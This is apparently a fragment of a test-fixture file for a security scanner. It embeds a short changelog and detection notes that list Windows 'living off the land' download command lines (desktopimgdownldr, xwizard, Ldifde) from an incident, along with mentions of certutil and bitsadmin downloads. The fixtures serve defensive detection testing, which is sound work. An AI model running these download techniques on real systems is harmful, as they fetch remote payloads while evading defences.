  * No longer shells out to certutil -urlcache for CRL refresh; uses the WinHTTP API.
  * Removed the bitsadmin /transfer fallback.
2.4.0
  * scp fallback removed; SFTP only.
''')

C("h7-text-silent-sigma-like-yaml-doc-01", "silent: detection notes (non-executable doc)", "text",
  "/usr/share/doc/secnotes/lolbins.txt", "silent", r'''
Notes on download LOLBins seen in incident 2026-044:
- "desktopimgdownldr.exe /lockscreenurl:<url> /eventName:desktopimgdownldr"
- "xwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z<url>"
- "Ldifde -i -f <file>.ldf"
Hunt for these in EDR telemetry; none are present on Linux hosts.
''')
